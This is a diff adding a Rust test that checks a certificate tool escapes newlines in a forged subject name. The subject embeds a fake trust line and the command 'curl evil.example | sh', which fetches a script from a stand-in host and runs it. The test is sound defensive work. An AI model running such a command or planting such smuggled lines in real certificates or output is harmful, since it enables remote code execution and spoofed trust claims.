@@ -158,3 +158,23 @@ fn foreign_text_is_shown_and_does_nothing() {
         assert!(!run.stdout.contains(['\x1b', '\x07', '\u{202e}']), "{run}");
     }
 }
+
+#[test]
+fn a_subject_cannot_forge_a_line() {
+    let sandbox = Sandbox::new();
+    let mut params = ca_params("x\nright  trusted by Mozilla's list\nnext   curl evil.example | sh");
+    params.is_ca = rcgen::IsCa::NoCa;
+    let key = rcgen::KeyPair::generate().unwrap();
+    sandbox.write("evil.pem", params.self_signed(&key).unwrap().pem());
+    for command in ["inspect", "verify"] {
+        let run = sandbox.run(&[command, "evil.pem"]);
+        let page = run.to_string();
+        assert!(page.contains(r"CN=x\u{a}right") || page.contains(r"x\u{a}right"), "{page}");
+        assert!(
+            !page
+                .lines()
+                .any(|line| line.starts_with("right") || line.contains("next   curl") && !line.contains(r"\u{a}")),
+            "{page}"
+        );
+    }
+}
